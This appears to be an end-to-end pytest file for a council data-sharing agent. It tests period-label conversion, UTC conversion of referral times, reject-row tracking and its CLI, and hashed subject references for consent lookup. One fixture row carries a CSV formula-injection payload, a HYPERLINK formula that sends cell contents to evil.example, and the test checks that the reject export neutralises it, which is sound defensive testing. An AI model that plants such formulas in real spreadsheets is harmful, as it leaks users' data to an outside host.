"""A council's own exports through a real agent run into a real hub process:
templated keys, period labels turned into the hub's period names, naive local
times sent in UTC, and bad rows kept once however often the file is re-read,
then listed, exported (CSV, no formulas) and cleared with `causeway-agent rejects`."""
import csv
import json
import re

import pytest
import requests

from agents.outbox import Outbox
from support import ROOT
from support.agents import enrol, run_agent, write_config

pytestmark = pytest.mark.e2e

CSV_OPTIONS = {"settle_seconds": 0, "format": "csv", "delimiter": ",", "encoding": "utf-8"}
RETURN_HEADER = "Quarter,Roll,Registered,Primary,Secondary,Total,Officer,Notes"
RETURN_ROWS = [
    "Quarter 3 (Oct–Dec 2026),51000,12000,300000,120000,420000,meals@edinburgh.gov.uk,",
    "2026-27 Q4,51000,12100,290000,118000,408000,meals@edinburgh.gov.uk,",
    'Summer term 2026,51000,12000,1,1,2,meals@edinburgh.gov.uk,"=HYPERLINK(""http://evil.example/?""&A1)"',
    "Quarter 1 (Oct-Dec 2026),51000,12000,1,1,2,meals@edinburgh.gov.uk,",
]
RETURN_MAPPING = {"fields": {
    "return_id": {"template": "{@council}-{@period}"},
    "council": {"const": "edinburgh"},
    "period": {"from": "Quarter", "convert": [{"period": "quarterly"}]},
    "pupils_on_roll": {"from": "Roll", "convert": ["integer"]},
    "free_meals_registered": {"from": "Registered", "convert": ["integer"]},
    "free_meals_taken_primary": {"from": "Primary", "convert": ["integer"]},
    "free_meals_taken_secondary": {"from": "Secondary", "convert": ["integer"]},
    "total_free_meals_taken": {"from": "Total", "convert": ["integer"]},
    "submitted_by": "Officer"}}


def write_return(path, rows):
    path.write_text("\n".join([RETURN_HEADER, *rows]) + "\n", encoding="utf-8")


@pytest.fixture
def returns_agent(hub, tmp_path):
    source = tmp_path / "school-meals.csv"
    write_return(source, RETURN_ROWS)
    state = tmp_path / "state"
    enrol(hub, state)
    config = write_config(tmp_path / "agent.yaml", hub.url, state, [{
        "name": "school-meals", "direction": "publish", "dataset": "data-return.school-meals",
        "connector": {"kind": "spreadsheet", "options": {"path": str(source), **CSV_OPTIONS}},
        "mapping": RETURN_MAPPING, "schedule": {"interval_seconds": 300}}])
    return config, source, state


def test_period_labels_become_the_hubs_periods_and_templates_build_the_return_id(hub, returns_agent):
    config, _, state = returns_agent
    result = run_agent(config, "run", "--once")
    assert result.returncode == 0, result.stdout + result.stderr
    current = hub.current("data-return.school-meals")
    assert {key: payload["period"] for key, payload in current.items()} == {
        "edinburgh-2026-Q4": "2026-Q4",   # financial Q3 is October to December
        "edinburgh-2027-Q1": "2027-Q1"}   # financial Q4 of 2026-27 is January to March 2027
    rejects = {r["location"]["row"]: r for r in Outbox(state / "outbox.sqlite").rejects()}
    assert set(rejects) == {4, 5}
    assert rejects[4]["errors"][0]["path"] == "/payload/period"
    assert "'Summer term 2026' is not a period the agent knows" in rejects[4]["errors"][0]["message"]
    assert "quarter 1 does not fit the months oct-dec 2026" in rejects[5]["errors"][0]["message"]


def test_a_reread_file_keeps_each_bad_row_once_and_the_cli_lists_exports_and_clears_them(hub, returns_agent, tmp_path):
    config, source, state = returns_agent
    assert run_agent(config, "run", "--once").returncode == 0
    # The team saves the return again with one more quarter: the file is read again, bad rows and all.
    write_return(source, [*RETURN_ROWS, "2026-Q2,51000,11900,280000,110000,390000,meals@edinburgh.gov.uk,"])
    assert run_agent(config, "run", "--once").returncode == 0
    assert run_agent(config, "run", "--once").returncode == 0  # unchanged: nothing read, nothing counted
    assert set(hub.current("data-return.school-meals")) == {"edinburgh-2026-Q4", "edinburgh-2027-Q1", "edinburgh-2026-Q2"}

    outbox = Outbox(state / "outbox.sqlite")
    rejects = outbox.rejects()
    assert [(r["location"]["row"], r["count"]) for r in rejects] == [(4, 2), (5, 2)]
    assert all(r["last_seen_at"] > r["created_at"] for r in rejects)
    outbox.close()

    listed = run_agent(config, "rejects")
    assert listed.returncode == 0, listed.stderr
    assert "2 reject(s) kept" in listed.stdout
    assert "school-meals.csv, row 4 (seen 2 times, last" in listed.stdout
    assert "/payload/period: field 'period' from column 'Quarter': 'Summer term 2026' is not a period" in listed.stdout

    exported = tmp_path / "rejects.csv"
    result = run_agent(config, "rejects", "export", "-o", str(exported))
    assert result.returncode == 0, result.stderr
    with open(exported, encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.DictReader(handle))
    assert [(line["where"], line["times_seen"], line["Quarter"]) for line in lines] == [
        ("school-meals.csv, row 4", "2", "Summer term 2026"), ("school-meals.csv, row 5", "2", "Quarter 1 (Oct-Dec 2026)")]
    assert lines[0]["errors"].startswith("/payload/period: field 'period'")
    assert lines[0]["Notes"] == "'=HYPERLINK(\"http://evil.example/?\"&A1)"  # text in a spreadsheet, never a formula

    refused = run_agent(config, "rejects", "clear")
    assert refused.returncode == 2 and "say which rejects to clear" in refused.stderr
    both = run_agent(config, "rejects", "clear", "--all", "--task", "school-meals")
    assert both.returncode == 2 and "--all alone" in both.stderr
    first = rejects[0]["id"]
    cleared = run_agent(config, "rejects", "clear", "--id", str(first))
    assert cleared.returncode == 0 and "cleared 1 reject(s)" in cleared.stdout
    unknown = run_agent(config, "rejects", "clear", "--task", "no-such-task")
    assert unknown.returncode == 2 and "has no task 'no-such-task'" in unknown.stderr
    assert "cleared 1 reject(s)" in run_agent(config, "rejects", "clear", "--all").stdout
    assert "0 reject(s) kept" in run_agent(config, "rejects").stdout


REFERRAL_HEADER = "REF_ID,ClientNo,Service,Reason,Referred"
REFERRAL_ROWS = [
    "123,C000001,SDS careers guidance,Careers guidance,24/10/2026 09:30",   # BST
    "124,C000002,SDS careers guidance,Careers guidance,26/10/2026 09:30",   # GMT, after the clocks went back
    "125,C000003,SDS careers guidance,Careers guidance,25/10/2026 01:30",   # happened twice: the first, BST
]


def referral_task(name, folder, **task) -> dict:
    return {"name": name, "direction": "publish", "dataset": "referral", "schema_version": 3,
            "connector": {"kind": "spreadsheet", "options": {"folder": str(folder), **CSV_OPTIONS}},
            "mapping": {"subject": {"from": "ClientNo", "hash_key_env": "CAUSEWAY_SUBJECT_KEY"}, "fields": {
                "referral_id": {"template": "FIFE-REF-{REF_ID:06d}"}, "personal_details_ref": {"subject": True},
                "referring_org": {"const": "edinburgh"}, "receiving_org": {"const": "sds"}, "receiving_service": "Service",
                "reason_for_referral": "Reason", "referred_at": {"from": "Referred", "convert": ["datetime"]}}},
            "schedule": {"interval_seconds": 300}, **task}


def test_naive_local_times_reach_the_hub_in_utc_for_the_task_time_zone(hub, tmp_path):
    london, utc = tmp_path / "london", tmp_path / "utc"
    for folder in (london, utc):
        folder.mkdir()
        (folder / "referrals.csv").write_text("\n".join([REFERRAL_HEADER, *REFERRAL_ROWS]) + "\n", encoding="utf-8")
    (utc / "referrals.csv").write_text("\n".join([REFERRAL_HEADER, REFERRAL_ROWS[0].replace("123,", "900,")]) + "\n")
    state = tmp_path / "state"
    enrol(hub, state)
    config = write_config(tmp_path / "agent.yaml", hub.url, state, [
        referral_task("referrals-london", london), referral_task("referrals-utc", utc, time_zone="UTC")])
    result = run_agent(config, "run", "--once", CAUSEWAY_SUBJECT_KEY="a-key-only-the-council-holds")
    assert result.returncode == 0, result.stdout + result.stderr
    assert Outbox(state / "outbox.sqlite").rejects() == []
    sent = {key: payload["referred_at"] for key, payload in hub.current("referral").items()}
    assert sent == {"FIFE-REF-000123": "2026-10-24T08:30:00Z", "FIFE-REF-000124": "2026-10-26T09:30:00Z",
                    "FIFE-REF-000125": "2026-10-25T00:30:00Z", "FIFE-REF-000900": "2026-10-24T09:30:00Z"}
    assert all(json.loads(r["payload"])["referral_id"] == r["key"] for r in hub.records("referral"))


def test_a_consent_imported_with_the_documented_subject_encoding_finds_the_agents_records(hub, tmp_path):
    """docs/governance.md says how to compute a subject for a consent import; that very
    snippet gives the subject the agent put on the record the hub holds."""
    drop = tmp_path / "drop"
    drop.mkdir()
    (drop / "referrals.csv").write_text("\n".join([REFERRAL_HEADER, REFERRAL_ROWS[0].replace(",C000001,", ", c000001 ,")])
                                        + "\n", encoding="utf-8")
    state = tmp_path / "state"
    enrol(hub, state)
    config = write_config(tmp_path / "agent.yaml", hub.url, state, [referral_task("referrals", drop)])
    key = "a-key-only-the-council-holds"
    assert run_agent(config, "run", "--once", CAUSEWAY_SUBJECT_KEY=key).returncode == 0
    (record,) = hub.records("referral")

    governance = (ROOT / "docs" / "governance.md").read_text(encoding="utf-8")
    snippet = re.search(r"```python\n(.*?)```", governance[governance.index("**The subject reference**"):], re.S)[1]
    namespace = {"key": key, "client_id": " c000001 "}
    exec(snippet, namespace)  # the documentation's own code
    assert namespace["subject"] == record["subject"]
    assert re.fullmatch(r"[0-9a-f]{64}", record["subject"])

    headers = {"Authorization": f"Bearer {hub.key('edinburgh', 'governance')}"}
    csv_text = ("subject,purpose,recipients,method,evidence_ref,given_at\n"
                f"{namespace['subject']},ServiceProvision,sds,signed form,EDI-CONSENT-1,2026-01-05T10:00:00Z\n")
    imported = requests.post(f"{hub.url}/api/v1/consents/import", data=csv_text.encode(), timeout=10,
                             headers={**headers, "Content-Type": "text/csv"})
    assert imported.status_code == 200 and imported.json()["imported"] == 1, imported.text
    found = requests.get(f"{hub.url}/api/v1/subjects/{record['subject']}/consents", headers=headers, timeout=10).json()
    assert [c["evidence_ref"] for c in found["consents"]] == ["EDI-CONSENT-1"]
